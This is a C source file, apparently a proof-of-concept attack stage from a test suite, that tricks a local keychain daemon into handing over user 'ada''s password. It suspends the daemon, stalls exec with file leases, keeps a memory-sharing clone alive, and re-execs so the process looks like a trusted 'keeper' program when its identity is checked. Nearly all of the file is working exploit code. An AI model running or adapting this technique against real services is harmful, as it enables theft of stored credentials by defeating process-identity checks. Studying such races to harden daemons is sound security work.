/* sandwich SOCKET DAEMON KEEPER STAGE…: asks for ada's password, and is KEEPER whenever the daemon checks it.

   KEEPER is a program that executes other programs on request, as env does. Before each part of the conversation the attacker stops the
   daemon, does its part, and executes KEEPER, which executes the next STAGE, a copy of this program. Leases on the stages keep
   it there: a process that opens such a file, even to execute it, waits until the lease is given up. So KEEPER is the waiting
   program while the daemon continues, checks and answers.

   Each part leaves a process that shares its memory. So a file in /proc that the daemon holds open for that memory does not
   show that the part has ended. */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { STAGES = 3, PATIENCE_MILLISECONDS = 10000, SIBLING_STACK = 64 * 1024 };

static void nap(void) {
    struct timespec millisecond = {0, 1000000};
    nanosleep(&millisecond, NULL);
}

static char state_of(pid_t pid) {
    char path[64], text[512] = "";
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *file = fopen(path, "re");
    if (!file) return 0;
    char *bracket = fgets(text, sizeof text, file) ? strrchr(text, ')') : NULL;
    fclose(file);
    return bracket && bracket[1] ? bracket[2] : 0;
}

static void stop(pid_t daemon) {
    kill(daemon, SIGSTOP);
    for (int left = PATIENCE_MILLISECONDS; left > 0 && state_of(daemon) != 'T'; left--) nap();
}

static int sleep_on(void *unused) {
    (void)unused;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (;;) pause();
}

static int leave_sibling(void) {
    char *stack = mmap(NULL, SIBLING_STACK, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
    return stack == MAP_FAILED ? -1 : clone(sleep_on, stack + SIBLING_STACK, CLONE_VM, NULL);
}

/* Whether the table of a process's memory can still be read. */
static int is_readable(int memory) {
    uint64_t entry;
    return pread(memory, &entry, sizeof entry, 0) == sizeof entry;
}

/* stage NUMBER SOCKET-DESCRIPTOR DAEMON KEEPER STAGE…: does one part, then executes KEEPER, which executes the next stage. */
int verb_stage(int count, char **words) {
    if (count < 4) return 2;
    int number = atoi(words[0]), end = atoi(words[1]);
    pid_t daemon = atoi(words[2]);
    char secret[4096] = "", next[8];
    if (number == STAGES) {
        int status = keychain_answer(end, secret, sizeof secret);
        return printf("find %d %s\n", status, secret), 0;
    }
    stop(daemon);
    int error = number == 0 ? greet_hello(end)
        : number == 1       ? greet_nonce(end)
        : greet_welcome(end) == 0 ? keychain_ask(end, "ada", NULL)
                                  : -1;
    if (error != 0) {
        kill(daemon, SIGCONT);
        return printf("closed at part %d\n", number), 0;
    }
    if (leave_sibling() < 0) return perror("a process that shares memory"), 1;
    snprintf(next, sizeof next, "%d", number + 1);
    char *arguments[] = {words[3], words[4], "stage", next, words[1], words[2], words[3], count > 5 ? words[5] : NULL, count > 6 ? words[6] : NULL, NULL};
    execv(words[3], arguments);
    return perror(words[3]), 1;
}

/* Waits until KEEPER opens the stage, lets the daemon do its part, and then lets the stage begin. */
static void pass(int lease, int end, pid_t attacker, pid_t daemon, const char *keeper, int memory) {
    char link[64], shown[PATH_MAX] = "";
    for (int left = PATIENCE_MILLISECONDS; left > 0 && fcntl(lease, F_GETLEASE) == F_WRLCK; left--) {
        if (state_of(attacker) == 'Z') return;
        nap();
    }
    kill(daemon, SIGCONT);
    struct pollfd answer = {.fd = end, .events = POLLIN};
    poll(&answer, 1, PATIENCE_MILLISECONDS);
    snprintf(link, sizeof link, "/proc/%d/exe", attacker);
    if (readlink(link, shown, sizeof shown - 1) > 0) printf("looks like %s\n", strcmp(shown, keeper) == 0 ? "the keeper" : shown);
    printf("memory of the first part: %s\n", is_readable(memory) ? "there" : "gone");
    fcntl(lease, F_SETLEASE, F_UNLCK);
}

int verb_sandwich(int count, char **words) {
    if (count != 3 + STAGES) return 2;
    int end = socket(AF_UNIX, SOCK_STREAM, 0), leases[STAGES];
    pid_t daemon = atoi(words[1]);
    signal(SIGIO, SIG_IGN);
    for (int stage = 0; stage < STAGES; stage++) {
        leases[stage] = open(words[3 + stage], O_RDONLY | O_CLOEXEC);
        if (fcntl(leases[stage], F_SETLEASE, F_WRLCK) != 0) return perror(words[3 + stage]), 1;
    }
    fflush(stdout);
    int begin[2];
    char path[64];
    if (pipe2(begin, O_CLOEXEC) != 0) return perror("pipe"), 1;
    pid_t attacker = fork();
    if (attacker == 0) {
        char byte;
        if (read(begin[0], &byte, 1) != 1) _exit(1);
        char descriptor[8];
        snprintf(descriptor, sizeof descriptor, "%d", end);
        if (socket_connect(end, words[0]) != 0) _exit(1);
        char *arguments[] = {"0", descriptor, words[1], words[2], words[3], words[4], words[5], NULL};
        _exit(verb_stage(7, arguments));
    }
    snprintf(path, sizeof path, "/proc/%d/pagemap", attacker);
    int memory = open(path, O_RDONLY | O_CLOEXEC);
    if (memory < 0 || write(begin[1], "", 1) != 1) return perror(path), 1;
    for (int stage = 0; stage < STAGES; stage++) pass(leases[stage], end, attacker, daemon, words[2], memory);
    kill(daemon, SIGCONT);
    waitpid(attacker, NULL, 0);
    return 0;
}
